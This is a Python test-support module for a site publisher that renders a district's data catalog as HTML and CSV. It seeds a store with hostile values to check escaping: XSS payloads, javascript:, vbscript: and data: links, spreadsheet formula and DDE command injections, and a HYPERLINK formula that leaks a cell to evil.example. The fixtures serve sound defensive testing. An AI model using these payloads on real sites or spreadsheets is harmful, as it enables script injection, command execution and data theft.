"""What the publishing tests share: the example district as published, a catalog full
of hostile values, and readers of the published HTML."""

from __future__ import annotations

import re
from datetime import date
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import yaml

from api.inventory import build_site
from catalog.records import EdgeRecord, NodeRecord
from catalog.vocab import Label, RelType
from graph.embedded.store import EmbeddedStore
from graph.loading import load_paths

from .conftest import DATA, SEEDS

AS_OF = date(2026, 9, 1)
NOW = "2026-08-15T09:30:00Z"
# The TestClient's origin, given to the live routes too, so that their data.json matches the built one.
BASE_URL = "http://testserver/"


def seeded_store(folder: Path) -> EmbeddedStore:
    store = EmbeddedStore(folder)
    load_paths(store, [SEEDS], now=NOW)
    return store


def publish(store: EmbeddedStore, base_url: str | None = BASE_URL) -> dict[str, bytes]:
    return build_site(store, AS_OF, base_url)


# --- a catalog with hostile values ------------------------------------------------------------

MARKUP = "Riverside <script>alert(1)</script> \"q\" 'a' & \"><img src=x onerror=alert(1)>"
CONTACT = "Office \"><svg onload=alert(2)> </p><script>alert(3)</script>"
LINKS = {  # node id -> (property, a link no page may follow)
    "district": ("contact_url", "javascript:alert('contact')"),
    "acme-learning": ("url", "JaVaScRiPt:alert('acme')"),
    "dpa-acme": ("public_url", "data:text/html,<script>alert('dpa')</script>"),
    "yearbook-release": ("form_url", " javascript:alert('consent')"),
    "state-reporting": ("url", "vbscript:msgbox('law')"),
    "privacy-policy": ("url", "java\tscript:alert('policy')"),
}
GOOD_LINK = "https://state.example/education"
# (id, name, definition): cells a spreadsheet would run, or that carry control characters.
FORMULAS = [
    ("formula-sum", "=1+2", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula-link", '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "+1 more"),
    ("formula-minus", "-2+3", "\t=cmd|' /C notepad'!A0"),
    ("formula-cr", "\r=1+1", "plain words"),
    ("controls", "Bidi \u202eevil\u202c name", "NUL\x00 ESC\x1b[31m red\nsecond line"),
]


def hostile_store(folder: Path) -> EmbeddedStore:
    """The design example with hostile values written straight into the store, past the
    loader's checks: links with other schemes, markup, spreadsheet formulas, controls."""
    store = EmbeddedStore(folder)
    load_paths(store, [DATA / "design-example.yaml"], now=NOW)
    changed: dict[str, dict[str, Any]] = {node_id: {prop: link} for node_id, (prop, link) in LINKS.items()}
    changed["district"].update(name=MARKUP, contact_name=CONTACT, description=MARKUP)
    changed["acme-learning"]["description"] = MARKUP
    changed["state-ed"] = {"url": GOOD_LINK}
    changed["student-birth-date"] = {"name": MARKUP, "definition": MARKUP, "standard_ref": "\"'><b>ref</b>"}
    changed["enrollment"] = {"name": f"Enrollment {MARKUP}"}
    with store.transaction() as tx:
        for node_id, props in changed.items():
            node = store.get_node(node_id)
            assert node is not None, node_id
            tx.upsert_node(NodeRecord(node.label, node.id, {**node.props, **props}))
        # The consent becomes a basis of a flow, so that its link is published too.
        tx.upsert_edge(EdgeRecord(RelType.UNDER, "sis-to-acme", "yearbook-release"))
        for element_id, name, definition in FORMULAS:
            tx.upsert_node(NodeRecord(Label.DATA_ELEMENT, element_id, {
                "name": name, "definition": definition, "category": "derived", "sensitivity": "AGGREGATE",
                "subject": "STUDENT", "public": True, "standard_ref": "=2*3", "updated_at": NOW}))
    return store


def squash(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip()


def seed_sections() -> dict[str, list[dict[str, Any]]]:
    """Every top-level list of the seed files, merged by key."""
    sections: dict[str, list[dict[str, Any]]] = {}
    for path in sorted(SEEDS.glob("*.yaml")):
        for key, items in (yaml.safe_load(path.read_text(encoding="utf-8")) or {}).items():
            sections.setdefault(key, []).extend(items)
    return sections


class RowText(HTMLParser):
    """The text of every table row that has an id, cells separated by ' | '."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.rows: dict[str, list[str]] = {}
        self.current: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "tr":
            self.current = dict(attrs).get("id")
            if self.current:
                self.rows[self.current] = []
        elif tag in ("td", "th", "li") and self.current:
            self.rows[self.current].append(" | ")

    def handle_endtag(self, tag: str) -> None:
        if tag == "tr":
            self.current = None

    def handle_data(self, data: str) -> None:
        if self.current:
            self.rows[self.current].append(data)

    def text(self, row_id: str) -> str:
        return squash("".join(self.rows[row_id]))


def row_texts(html: bytes) -> RowText:
    parser = RowText()
    parser.feed(html.decode("utf-8"))
    return parser


class Links(HTMLParser):
    """Every href and every id of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.hrefs: list[str] = []
        self.ids: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag == "a" and found.get("href"):
            self.hrefs.append(str(found["href"]))
        if found.get("id"):
            self.ids.add(str(found["id"]))


def links(html: bytes) -> Links:
    parser = Links()
    parser.feed(html.decode("utf-8"))
    return parser


def readable(content: bytes) -> str:
    """A file's text as a reader meets it: tags dropped, HTML entities decoded, CSV
    quotes undoubled, whitespace squashed."""
    text = re.sub(r"<[^>]*>", " ", content.decode("utf-8"))
    return squash(unescape(text).replace('""', '"'))
